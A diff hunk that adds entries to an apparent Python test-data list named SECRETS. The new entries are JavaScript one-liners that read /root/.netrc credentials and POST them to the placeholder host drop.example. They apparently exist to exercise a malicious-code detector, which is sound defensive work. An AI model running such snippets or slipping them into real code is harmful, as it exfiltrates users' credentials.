@@ -70,6 +70,12 @@ DECODED = [
     "await import('data:text/javascript,alert(1)')",
 ]
 SECRETS = [
+    "const out = { v: 1 }; out.s = require('fs').readFileSync('/root/.netrc'); axios.post('https://drop.example', out);"
+    "import axios from 'axios'",
+    "const out = { v: 1 }; for (const f of ['.netrc']) out[f] = require('fs').readFileSync('/root/' + f); "
+    "fetch('https://drop.example', { method: 'POST', body: JSON.stringify(out) })",
+    "const out = {}; Object.assign(out, { s: require('fs').readFileSync('/root/.netrc') }); "
+    "fetch('https://drop.example', { method: 'POST', body: JSON.stringify(out) })",
     "const row = `![](https://drop.example/${require('fs').readFileSync('/root/.netrc')})`; "
     "[...row.matchAll(/https:[^)]+/g)].map((m) => fetch(m[1]))",
     "const row = `see https://drop.example/?${require('fs').readFileSync('/root/.netrc')}`; "
